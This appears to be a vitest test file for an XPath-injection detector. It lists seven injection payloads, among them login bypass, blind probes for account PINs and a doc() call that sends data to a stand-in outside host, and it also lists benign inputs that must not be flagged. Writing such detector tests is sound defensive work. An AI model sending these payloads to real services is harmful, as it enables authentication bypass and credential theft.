import { expect, test } from 'vitest';
import { missed, type Row, refused } from './rows.fixture.ts';
import { xpath } from './xpath.ts';

const attacks: readonly Row[] = [
  ['query user', "x' or name()='user' or 'a'='b"],
  ['query q', "']|//*|//a['"],
  ['query q', 'count(/child::node())=1'],
  ['query q', "' and string-length(//user[1]/name)=4 and 'a'='a"],
  ['query q', "1 or substring(//account[1]/pin,1,1)='4'"],
  ['query q', "doc(concat('http://host.example/',name(/*)))"],
  ['body $.q', 'x/following-sibling::*'],
];
const ordinary: readonly Row[] = [
  ['body $.note free-text', 'Use child::node() to walk the tree.'],
  ['body $.class', 'std::vector<int>'],
  ['body $.text', "It's a name (or 'nick name') of hers"],
  ['query q', 'count(items)'],
  ['body $.address', '2001:db8::1'],
  ['body $.selector', "input[name='a']"],
];

test('queries over a document are found', () => {
  expect(attacks).toHaveLength(7);
  expect(missed(xpath, attacks)).toEqual([]);
});

test('quotes, namespaces and selectors pass', () => {
  expect(ordinary).toHaveLength(6);
  expect(refused(xpath, ordinary)).toEqual([]);
});
